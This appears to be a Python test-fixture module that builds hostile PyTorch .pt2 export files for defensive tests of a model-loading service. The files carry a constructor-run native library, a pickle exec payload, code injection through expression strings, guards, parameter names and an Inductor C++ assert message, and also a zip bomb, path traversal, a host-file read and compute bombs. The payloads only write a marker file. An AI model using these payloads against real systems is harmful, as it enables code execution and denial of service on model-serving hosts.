"""Hostile `.pt2` files an attacker could upload, built from a real program for the tests.

Each builder writes a file that plain `torch.export.load` would accept far enough to do harm; the
tests show that fxtune's loader, the service and a live worker refuse it.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch
import torch.nn.functional as F
from torch import nn

from tuner.graph.capture import export_module, save_program

MARKER_ENV = "FXTUNE_TEST_MARKER"
CONSTRUCTOR_C = r"""
#include <stdio.h>
#include <stdlib.h>
__attribute__((constructor)) static void planted(void) {
    const char *p = getenv("FXTUNE_TEST_MARKER");
    if (p) { FILE *f = fopen(p, "w"); if (f) { fputs("pwned", f); fclose(f); } }
}
"""
Edit = Callable[[str, bytes], bytes | None]


def good_program(path: Path) -> Path:
    net = nn.Sequential(nn.Linear(16, 16), nn.ReLU())
    return save_program(export_module(net, (torch.randn(2, 16),)), path)


def rewrite(src: Path, dst: Path, edit: Edit, extra: dict[str, bytes] | None = None) -> Path:
    """Copy `src`, passing each member through `edit` (None drops it), then add `extra`."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        root = zin.namelist()[0].split("/")[0]
        for item in zin.infolist():
            data = edit(item.filename, zin.read(item))
            if data is not None:
                zout.writestr(item, data)
        for rel, data in (extra or {}).items():
            zout.writestr(f"{root}/{rel}", data)
    return dst


def planted_library(src: Path, dst: Path) -> Path:
    """An AOTInductor wrapper library whose constructor writes the file named by MARKER_ENV."""
    cc = shutil.which("gcc") or shutil.which("cc")
    if cc is None:
        raise RuntimeError("a C compiler is needed to build the planted library")
    c_file, so_file = dst.with_suffix(".c"), dst.with_suffix(".so")
    c_file.write_text(CONSTRUCTOR_C)
    subprocess.run([cc, "-shared", "-fPIC", "-o", str(so_file), str(c_file)], check=True)
    meta = json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()
    extra = {
        "data/aotinductor/model/evil.wrapper.so": so_file.read_bytes(),
        "data/aotinductor/model/evil.wrapper_metadata.json": meta,
    }
    return rewrite(src, dst, lambda _n, d: d, extra)


def zip_bomb(src: Path, dst: Path, inflated_bytes: int = 4 * 1024**3) -> Path:
    """The first weight replaced by a deflated member of `inflated_bytes` zeros (a few MB)."""
    weight = next(n for n in zipfile.ZipFile(src).namelist() if n.endswith("data/weights/weight_0"))
    rewrite(src, dst, lambda n, d: None if n == weight else d)
    chunk = bytes(64 * 1024**2)
    with (
        zipfile.ZipFile(dst, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open(weight, "w", force_zip64=True) as out,
    ):
        for _ in range(inflated_bytes // len(chunk)):
            out.write(chunk)
    return dst


def from_file_graph(dst: Path, victim: Path) -> Path:
    """A pickle-free program whose graph reads `victim` from the host (`aten.from_file`)."""

    class Reads(nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.full((16,), 0, dtype=torch.uint8) + x

    src = save_program(
        export_module(Reads(), (torch.zeros(16, dtype=torch.uint8),)),
        dst.with_name("reads_src.pt2"),
    )

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        program = json.loads(data)
        for node in program["graph_module"]["graph"]["nodes"]:
            if node["target"] == "torch.ops.aten.full.default":
                node["target"] = "torch.ops.aten.from_file.default"
                node["inputs"] = [
                    {"name": "filename", "arg": {"as_string": str(victim)}, "kind": 1},
                    {"name": "shared", "arg": {"as_bool": False}, "kind": 1},
                    {"name": "size", "arg": {"as_int": 16}, "kind": 1},
                    {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},
                ]
        return json.dumps(program).encode()

    return rewrite(src, dst, edit)


def custom_op_graph(src: Path, dst: Path) -> Path:
    """The first ATen call renamed to an op of an unknown namespace."""

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        return data.replace(b"torch.ops.aten.linear.default", b"torch.ops.evil.linear.default", 1)

    return rewrite(src, dst, edit)


def traversal_names(src: Path, dst: Path, name: str) -> Path:
    """The program plus one member stored under `name` exactly (e.g. `../x`, `/etc/x`)."""
    rewrite(src, dst, lambda _n, d: d)
    with zipfile.ZipFile(dst, "a") as zf:
        zf.writestr(zipfile.ZipInfo(name), b"x")
    return dst


def many_members(src: Path, dst: Path, count: int) -> Path:
    extra = {f"data/weights/weight_{i + 1000}": b"" for i in range(count)}
    return rewrite(src, dst, lambda _n, d: d, extra)


def pickled_sample_inputs(src: Path, dst: Path, marker: Path) -> Path:
    """Sample inputs whose unpickling would write `marker` (full pickle runs code)."""

    class Payload:
        def __reduce__(self) -> tuple:
            return (exec, (f"open({str(marker)!r}, 'w').write('pwned')",))

    buf = io.BytesIO()
    torch.save(((Payload(),), {}), buf)
    return rewrite(
        src, dst, lambda n, d: buf.getvalue() if n.endswith("data/sample_inputs/model.pt") else d
    )


def resized_weight(src: Path, dst: Path) -> Path:
    """The weights config claims another shape than the graph's placeholder expects."""

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("data/weights/model_weights_config.json"):
            return data
        config = json.loads(data)
        meta = config["config"]["0.weight"]["tensor_meta"]
        meta["sizes"] = [{"as_int": 8}, {"as_int": 32}]
        meta["strides"] = [{"as_int": 32}, {"as_int": 1}]
        return json.dumps(config).encode()

    return rewrite(src, dst, edit)


def overlong_weight(src: Path, dst: Path) -> Path:
    """A weight whose strides reach past the bytes stored for it."""

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("data/weights/model_weights_config.json"):
            return data
        config = json.loads(data)
        config["config"]["0.weight"]["tensor_meta"]["storage_offset"] = {"as_int": 10_000}
        return json.dumps(config).encode()

    return rewrite(src, dst, edit)


CODE_MARKER = "code-ran"  # beside the hostile files: the exploits below write it when they run


def _payload(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').write('pwned')"


def _edit_program(src: Path, dst: Path, change: Callable[[dict], None]) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        program = json.loads(data)
        change(program)
        return json.dumps(program).encode()

    return rewrite(src, dst, edit)


def dynamic_program(path: Path) -> Path:
    """A small program with a dynamic batch, so its JSON carries symbolic-size expressions."""
    net = nn.Sequential(nn.Linear(16, 16), nn.ReLU())
    batch = torch.export.Dim("batch", min=2, max=1024)
    program = torch.export.export(net, (torch.randn(4, 16),), dynamic_shapes=({0: batch},))
    return save_program(program, path)


def first_size_expression(src: Path, dst: Path, plant: Callable[[str], str]) -> Path:
    """`src` with its first symbolic size's expression `e` replaced by `plant(e)`."""

    def change(program: dict) -> None:
        for meta in program["graph_module"]["graph"]["tensor_values"].values():
            for size in meta["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = plant(size["as_expr"]["expr_str"])
                    return
        raise AssertionError("the program has no symbolic size to plant in")

    return _edit_program(src, dst, change)


def expression_exec(src: Path, dst: Path, marker: Path) -> Path:
    """Route 1: an `expr_str` that runs code in sympify's eval and still evaluates to the size."""
    return first_size_expression(
        src, dst, lambda expr: f"(exec({_payload(marker)!r}) or 0)*0 + {expr}"
    )


def guard_exec(src: Path, dst: Path, marker: Path) -> Path:
    """Route 2: a guard whose `#` and newlines leave the generated guard function's assert."""
    guard = f'True #\n, "x")\n  {_payload(marker)}\n  torch._assert(True'
    return _edit_program(src, dst, lambda p: p["guards_code"].append(guard))


def name_exec(src: Path, dst: Path, marker: Path) -> Path:
    """Route 3: a parameter name that FX writes unescaped into `getattr(self, "...")`."""
    code = ", ".join(str(b) for b in _payload(marker).encode())
    evil = f'w", exec(bytes(({code},)))) or getattr(self, "w'

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            program = json.loads(data)
            for spec in program["graph_module"]["signature"]["input_specs"]:
                if spec.get("parameter", {}).get("parameter_name") == "0.weight":
                    spec["parameter"]["parameter_name"] = evil
            return json.dumps(program).encode()
        if name.endswith("model_weights_config.json"):
            config = json.loads(data)
            config["config"][evil] = config["config"].pop("0.weight")
            return json.dumps(config).encode()
        return data

    return rewrite(src, dst, edit)


ASSERT_PLACEHOLDER = "fxtune-assert-message"


class _Asserting(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch._assert_async(x.sum() > -1e30, ASSERT_PLACEHOLDER)
        return x * 2


def cpp_payload(marker: Path) -> str:
    """C++ that ends Inductor's `throw std::runtime_error("...")` literal, writes `marker` and
    reopens an expression the generated tail closes."""
    return (
        f'x"), 0)); {{ FILE* f = fopen("{marker}", "w"); if (f) {{ fputs("pwned", f); '
        'fclose(f); } } (true ? 0 : (throw std::runtime_error("y'
    )


def assert_message(dst: Path, message: str) -> Path:
    """Route 4 (round 3): the message of `aten._assert_async.msg`, which Inductor's C++ kernel
    generator pastes into `throw std::runtime_error("{msg}")` unescaped."""
    src = save_program(
        export_module(_Asserting(), (torch.randn(4, 4),)), dst.with_suffix(".src.pt2")
    )

    def change(program: dict) -> None:
        for node in program["graph_module"]["graph"]["nodes"]:
            for argument in node["inputs"]:
                if argument["arg"].get("as_string") == ASSERT_PLACEHOLDER:
                    argument["arg"]["as_string"] = message
                    return
        raise AssertionError("the program has no assert message to plant in")

    return _edit_program(src, dst, change)


class Strings(nn.Module):
    """Twelve operators that take a string, as export keeps them."""

    def forward(self, x: torch.Tensor, idx: torch.Tensor, seq: torch.Tensor) -> torch.Tensor:
        a = F.gelu(x, approximate="tanh")
        b = torch.div(x, 3, rounding_mode="floor")
        c = torch.einsum("ij,jk->ik", x, x)
        d = torch.zeros(4, 4).scatter_reduce(0, idx, x, reduce="amax")
        e = torch.searchsorted(seq, x, side="right").float()
        f = F.pad(x[None], (1, 1), mode="reflect")[0, :, 1:-1]
        g, h = torch.meshgrid(x[0], x[1], indexing="ij")
        q = torch.quantile(x, 0.5, dim=1, interpolation="midpoint", keepdim=True)
        r = torch.fft.rfft(x, norm="ortho").abs()[:, :1]
        inv, info = torch.linalg.inv_ex(x + 4 * torch.eye(4))
        torch.ops.aten._linalg_check_errors(info, "linalg.inv_ex", is_matrix=True)
        torch._assert_async(x.sum() > -1e30, "a message")
        n = idx.sum().item()
        torch._check(n <= 64)
        return a + b + c + d + e + f + g + h + q + r + inv + n


def strings_inputs() -> tuple[torch.Tensor, ...]:
    gen = torch.Generator().manual_seed(0)
    x = torch.randn(4, 4, generator=gen)
    return x, torch.randint(0, 4, (4, 4), generator=gen), torch.linspace(-2, 2, 9)


def strings_program_file(dst: Path) -> Path:
    """A program whose JSON carries twelve operators' string arguments (for the fuzzers)."""
    return save_program(export_module(Strings(), strings_inputs()), dst)


def zeros_bomb(dst: Path) -> Path:
    """No code at all: one ATen call that allocates 4 TiB."""

    class Zeros(nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.zeros(2**40).sum() + x

    return save_program(export_module(Zeros(), (torch.ones(1),)), dst)


def matmul_chain(dst: Path) -> Path:
    """Forty 16k x 16k matmuls of a tiny input broadcast up: petaFLOPs per call."""

    class Chain(nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            y = x.expand(16384, 16384)
            for _ in range(40):
                y = y @ y
            return y.sum()

    return save_program(export_module(Chain(), (torch.ones(1, 1),)), dst)


def strided_weight(src: Path, dst: Path) -> Path:
    """A weight of [2^31, 2^31] elements read from its 4 bytes through zero strides."""

    def edit(name: str, data: bytes) -> bytes:
        if not name.endswith("model_weights_config.json"):
            return data
        config = json.loads(data)
        meta = config["config"]["0.weight"]["tensor_meta"]
        meta["sizes"] = [{"as_int": 2**31}, {"as_int": 2**31}]
        meta["strides"] = [{"as_int": 0}, {"as_int": 0}]
        return json.dumps(config).encode()

    return rewrite(src, dst, edit)


def hostile_files(root: Path) -> dict[str, Path]:
    """Every crafted file, written into `root` (the session fixture `hostile` builds them once:
    the 4 GiB bomb takes a few seconds)."""
    good = good_program(root / "good.pt2")
    dynamic = dynamic_program(root / "dynamic.pt2")
    marker = root / CODE_MARKER
    victim = root / "victim.bin"
    victim.write_bytes(b"SECRET-HOST-FILE")
    return {
        "good": good,
        "planted_library": planted_library(good, root / "planted.pt2"),
        "zip_bomb": zip_bomb(good, root / "bomb.pt2"),
        "from_file": from_file_graph(root / "from_file.pt2", victim),
        "custom_op": custom_op_graph(good, root / "custom_op.pt2"),
        "traversal": traversal_names(good, root / "traversal.pt2", "m/../../escaped"),
        "absolute_name": traversal_names(good, root / "absolute.pt2", "/tmp/fxtune-escaped"),
        "many_members": many_members(good, root / "many.pt2", 25_000),
        "pickled_inputs": pickled_sample_inputs(good, root / "pickled.pt2", root / "pickle-ran"),
        "resized_weight": resized_weight(good, root / "resized.pt2"),
        "overlong_weight": overlong_weight(good, root / "overlong.pt2"),
        "expression_exec": expression_exec(dynamic, root / "expr.pt2", marker),
        "guard_exec": guard_exec(dynamic, root / "guard.pt2", marker),
        "name_exec": name_exec(good, root / "name.pt2", marker),
        "assert_message": assert_message(root / "assert.pt2", cpp_payload(marker)),
        "zeros_bomb": zeros_bomb(root / "zeros.pt2"),
        "matmul_chain": matmul_chain(root / "chain.pt2"),
        "strided_weight": strided_weight(good, root / "strided.pt2"),
    }


# What the service's refusal of each hostile file says (a part of its 4xx detail).
WHY = {
    "planted_library": "AOTInductor members carry native libraries",
    "zip_bomb": "zip bomb",
    "from_file": "from_file",
    "custom_op": "custom or unknown operator",
    "traversal": "member name",
    "absolute_name": "member name",
    "many_members": "members",
    "pickled_inputs": "sample inputs",
    "resized_weight": "graph expects",
    "overlong_weight": "which holds",
    "expression_exec": "expr_str",
    "guard_exec": "guards_code",
    "name_exec": "parameter_name",
    "assert_message": "assert_msg",
    "zeros_bomb": "node zeros",
    "matmul_chain": "FLOPs",
    "strided_weight": "zero or overlapping strides",
}
